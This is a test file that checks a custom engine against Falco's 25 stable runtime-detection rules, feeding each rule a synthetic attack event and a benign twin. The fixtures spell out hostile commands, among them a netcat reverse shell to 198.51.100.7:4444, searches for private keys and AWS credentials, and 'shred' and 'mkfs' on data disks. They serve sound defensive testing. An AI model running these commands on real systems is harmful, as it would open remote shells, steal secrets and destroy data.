// Conformance with Falco's stable rules (test/conformance/falco-rules):
// the file loads with no rule skipped, and each rule fires on an event built
// as its `desc` says it should, and stays silent on the benign twin.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { loadRuleset } from './loader.js';
import { Engine } from './engine.js';
import { connect, exec, makeEvent, open, TEST_TIME, type PartialEvent } from './event-builders.js';
import type { SyscallEvent } from '../events/event.js';

const text = readFileSync(new URL('../../../test/conformance/falco-rules/falco_rules.yaml', import.meta.url), 'utf8');
const { ruleset, diagnostics } = loadRuleset([{ name: 'falco_rules.yaml', text }]);
const engine = new Engine(ruleset, { host: 'h' });
const fired = (e: SyscallEvent) => new Set(engine.process(e).map((a) => a.rule));
const C: PartialEvent = { container: {} };

const cases: Record<string, { fires: SyscallEvent[]; silent: SyscallEvent[] }> = {
  'Directory traversal monitored file read': {
    fires: [open('/etc/passwd', 'r', { fd: { nameRaw: '/var/www/html/../../../etc/passwd' }, proc: { name: 'php-fpm' }, parents: ['php-fpm'] })],
    silent: [
      open('/etc/passwd', 'r', { proc: { name: 'php-fpm' }, parents: ['php-fpm'] }),
      open('/etc/passwd', 'r', { fd: { nameRaw: '/a/../../etc/passwd' }, parents: ['bash'] }),
    ],
  },
  'Read sensitive file trusted after startup': {
    fires: [open('/etc/shadow', 'r', { proc: { name: 'nginx', startTime: TEST_TIME - 60_000 } })],
    silent: [
      open('/etc/shadow', 'r', { proc: { name: 'nginx', startTime: TEST_TIME - 1000 } }),
      open('/etc/hosts', 'r', { proc: { name: 'nginx', startTime: 0 } }),
    ],
  },
  'Read sensitive file untrusted': {
    fires: [open('/etc/shadow', 'r', { proc: { name: 'cat' } }), open('/etc/sudoers.d/admins', 'r', { proc: { name: 'python3' } })],
    silent: [
      open('/etc/shadow', 'r', { proc: { name: 'sshd' } }),
      open('/etc/shadow', 'r', { proc: { name: 'dpkg' } }),
      open('/etc/shadow', 'w', { proc: { name: 'cat' } }),
    ],
  },
  'Run shell untrusted': {
    fires: [exec('sh -c id', { parents: ['nginx', 'nginx'] }), exec('bash -c ls', { parents: ['php', 'httpd'] })],
    silent: [
      exec('sh -c id', { parents: ['bash', 'sshd'] }),
      exec(['sh', '-c', '/usr/sbin/nginx -c /etc/nginx/nginx.conf'], { parents: ['nginx'] }),
      exec('sh -c id', {
        parents: ['nginx'],
        proc: {
          parents: [
            { pid: 2, name: 'nginx' },
            { pid: 1, name: 'apt-get' },
          ],
        },
      }),
    ],
  },
  'System user interactive': {
    fires: [exec('/usr/bin/id', { proc: { user: 'www-data', uid: 33 }, parents: ['bash', 'sshd'] })],
    silent: [
      exec('/usr/bin/id', { proc: { user: 'alice', uid: 1000 }, parents: ['bash', 'sshd'] }),
      exec('/usr/bin/id', { proc: { user: 'www-data', uid: 33 }, parents: ['php-fpm'] }),
    ],
  },
  'Terminal shell in container': {
    fires: [exec('/bin/bash', { ...C, proc: { tty: 34816 }, parents: ['runc:[1:CHILD]'] }), exec('/bin/sh', { ...C, proc: { tty: 34817, parents: [] } })],
    silent: [
      exec('/bin/bash', { ...C, proc: { tty: 0 }, parents: ['runc:[1:CHILD]'] }),
      exec('/bin/bash', { proc: { tty: 34816 }, parents: ['runc:[1:CHILD]'] }),
      exec('/bin/bash', { ...C, proc: { tty: 34816 }, parents: ['python3'] }),
    ],
  },
  'Contact K8S API Server From Container': {
    fires: [connect('10.96.0.1', 443, { ...C, fd: { dipName: 'kubernetes.default.svc.cluster.local' } })],
    silent: [
      connect('10.96.0.1', 443, { container: { podNamespace: 'kube-system' }, fd: { dipName: 'kubernetes.default.svc.cluster.local' } }),
      connect('10.96.0.10', 53, { ...C, fd: { dipName: 'kube-dns.kube-system.svc.cluster.local' } }),
    ],
  },
  'Netcat Remote Code Execution in Container': {
    fires: [exec('nc -e /bin/sh 198.51.100.7 4444', C), exec('ncat --sh-exec /bin/bash 198.51.100.7 4444', C)],
    silent: [exec('nc -z db 5432', C), exec('nc -e /bin/sh 198.51.100.7 4444')],
  },
  'Search Private Keys or Passwords': {
    fires: [exec(['grep', '-r', 'BEGIN RSA PRIVATE', '/']), exec(['find', '/', '-name', 'id_rsa'])],
    silent: [exec(['grep', '-r', 'TODO', '/src']), exec(['find', '/', '-name', '*.log'])],
  },
  'Clear Log Activities': {
    fires: [open('/var/log/syslog', 'w'), open('/app/auth.log', 'w')],
    silent: [open('/var/log/syslog', 0o2101), open('/var/log/syslog', 'r'), open('/var/lib/app/data', 'w')],
  },
  'Remove Bulk Data from Disk': {
    fires: [exec('shred -u /data/db'), exec('mkfs /dev/sdb1')],
    silent: [exec('rm /tmp/x'), exec('ls /data')],
  },
  'Create Symlink Over Sensitive Files': {
    fires: [
      makeEvent({ type: 'symlinkat', args: { target: '/etc/shadow', linkpath: '/tmp/s' } }),
      makeEvent({ type: 'symlink', args: { target: '/root', linkpath: '/tmp/r' } }),
    ],
    silent: [makeEvent({ type: 'symlinkat', args: { target: '/etc/hosts', linkpath: '/tmp/h' } })],
  },
  'Create Hardlink Over Sensitive Files': {
    fires: [makeEvent({ type: 'linkat', args: { oldpath: '/etc/shadow', newpath: '/tmp/s' } })],
    silent: [makeEvent({ type: 'linkat', args: { oldpath: '/etc/hosts', newpath: '/tmp/h' } })],
  },
  'Packet socket created in container': {
    fires: [makeEvent({ type: 'socket', args: { domain: 17, type: 3, proto: 768 }, ...C })],
    silent: [makeEvent({ type: 'socket', args: { domain: 2, type: 1, proto: 0 }, ...C }), makeEvent({ type: 'socket', args: { domain: 17 } })],
  },
  'Redirect STDOUT/STDIN to Network Connection in Container': {
    fires: [makeEvent({ type: 'dup2', res: 0, ...C, fd: { type: 'ipv4', name: '10.0.0.5:4431->198.51.100.7:4444' } })],
    silent: [
      makeEvent({ type: 'dup2', res: 0, ...C, fd: { type: 'pipe', name: 'pipe' } }),
      makeEvent({ type: 'dup2', res: 7, ...C, fd: { type: 'ipv4', name: 'x' } }),
    ],
  },
  'Linux Kernel Module Injection Detected': {
    fires: [
      makeEvent({ type: 'finit_module', ...C, proc: { name: 'insmod', args: ['insmod', 'rootkit.ko'], capEffective: ['CAP_SYS_MODULE', 'CAP_SYS_ADMIN'] } }),
    ],
    silent: [
      makeEvent({ type: 'finit_module', ...C, proc: { name: 'insmod', capEffective: ['CAP_NET_RAW'] } }),
      makeEvent({ type: 'finit_module', proc: { name: 'modprobe', capEffective: ['CAP_SYS_MODULE'] } }),
    ],
  },
  'Debugfs Launched in Privileged Container': {
    fires: [exec('debugfs /dev/sda1', { container: { privileged: true } })],
    silent: [exec('debugfs /dev/sda1', C), exec('ls', { container: { privileged: true } })],
  },
  'Detect release_agent File Container Escapes': {
    fires: [open('/tmp/cgrp/release_agent', 'w', { ...C, proc: { capEffective: ['CAP_SYS_ADMIN'] } })],
    silent: [
      open('/tmp/cgrp/release_agent', 'w', { ...C, proc: { capEffective: ['CAP_CHOWN'] } }),
      open('/tmp/cgrp/release_agent', 'r', { ...C, proc: { capEffective: ['CAP_SYS_ADMIN'] } }),
    ],
  },
  'PTRACE attached to process': {
    fires: [
      makeEvent({ type: 'ptrace', args: { request: 16, pid: 1 }, proc: { name: 'inject' } }),
      makeEvent({ type: 'ptrace', args: { request: 'PTRACE_POKEDATA', pid: 1 }, proc: { name: 'inject' } }),
    ],
    silent: [makeEvent({ type: 'ptrace', args: { request: 2, pid: 1 }, proc: { name: 'inject' } })],
  },
  'PTRACE anti-debug attempt': {
    fires: [makeEvent({ type: 'ptrace', args: { request: 0 }, proc: { name: 'malware' } })],
    silent: [
      makeEvent({ type: 'ptrace', args: { request: 16 }, proc: { name: 'gdb' } }),
      makeEvent({ type: 'ptrace', args: { request: 0 }, proc: { name: '<NA>' } }),
    ],
  },
  'Find AWS Credentials': {
    fires: [exec(['grep', '-ri', 'aws_secret_access_key', '/home']), exec(['find', '/', '-path', '*/.aws/credentials'])],
    silent: [exec(['grep', '-r', 'aws', '/home']), exec(['find', '/home', '-name', 'config'])],
  },
  'Execution from /dev/shm': {
    fires: [exec('/dev/shm/x'), exec(['sh', '-c', '/dev/shm/payload'])],
    silent: [exec('/usr/bin/x'), exec(['sh', '-c', 'ls /tmp'])],
  },
  'Drop and execute new binary in container': {
    fires: [exec('/tmp/dropped', { ...C, proc: { exeUpperLayer: true } })],
    silent: [exec('/usr/bin/ls', { ...C, proc: { exeUpperLayer: false } }), exec('/tmp/dropped', { proc: { exeUpperLayer: true } })],
  },
  'Disallowed SSH Connection Non Standard Port': {
    fires: [connect('198.51.100.7', 443, { proc: { name: 'ssh', args: ['/usr/bin/ssh', '-p', '443', 'x'] } })],
    silent: [
      connect('198.51.100.7', 22, { proc: { name: 'ssh', args: ['/usr/bin/ssh', 'x'] } }),
      connect('10.0.0.9', 443, { proc: { name: 'ssh', args: ['/usr/bin/ssh', 'x'] } }),
      connect('198.51.100.7', 443, { proc: { name: 'curl', args: ['curl', 'x'] } }),
    ],
  },
  'Fileless execution via memfd_create': {
    fires: [exec('/proc/self/fd/3', { proc: { name: 'x', exeFromMemfd: true } })],
    silent: [exec('/usr/bin/runc init', { proc: { name: 'runc', exeFromMemfd: true } }), exec('/usr/bin/x', { proc: { name: 'x' } })],
  },
};

test('Falco stable rules load: all 25 compile, none skipped, no error', () => {
  assert.equal(ruleset.rules.length, 25);
  assert.deepEqual(ruleset.skipped, []);
  assert.deepEqual(
    diagnostics.filter((d) => d.severity === 'error' || d.code === 'UNSUPPORTED_FIELD'),
    [],
  );
  assert.deepEqual(Object.keys(cases).sort(), ruleset.rules.map((r) => r.name).sort());
  assert.ok(ruleset.rules.every((r) => r.type === `custom/${r.name}`));
});

for (const [name, c] of Object.entries(cases)) {
  test(`Falco rule: ${name}`, () => {
    c.fires.forEach((e, i) => assert.ok(fired(e).has(name), `fires #${i + 1} did not fire`));
    c.silent.forEach((e, i) => assert.ok(!fired(e).has(name), `silent #${i + 1} fired`));
  });
}
